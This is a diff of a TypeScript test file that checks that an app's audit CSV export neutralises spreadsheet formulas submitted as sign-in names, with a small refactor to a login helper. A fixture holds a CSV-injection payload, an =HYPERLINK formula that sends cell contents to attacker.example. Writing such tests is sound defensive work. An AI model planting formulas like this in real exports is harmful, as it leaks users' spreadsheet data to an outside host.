@@ -4,7 +4,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { parse } from 'csv-parse/sync';
 import { miniProvince } from '../fixtures/mini-province';
 import { createTestApp, type TestApp } from '../helpers/app';
-import { fromAddress, signIn } from '../helpers/auth';
+import { loginRequest, signIn } from '../helpers/auth';
 
 let t: TestApp;
 beforeAll(async () => {
@@ -16,9 +16,7 @@ const FORMULAS = ['=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây
 
 describe('CSV exports and spreadsheet formulas', () => {
   it('writes a sign-in name that looks like a formula into the audit CSV as text', async () => {
-    const attempt = await t.app.request('/api/auth/login', {
-      method: 'POST', headers: { 'Content-Type': 'application/json', Origin: 'http://localhost' }, body: JSON.stringify({ username: FORMULAS[0], password: 'x'.repeat(12) }),
-    }, fromAddress('10.9.9.9'));
+    const attempt = await loginRequest(t, FORMULAS[0]!, 'x'.repeat(12), '10.9.9.9');
     expect(attempt.status).toBe(401);
     const admin = await signIn(t, 'admin');
     const csv = await (await admin.get('/api/audit/export.csv')).text();
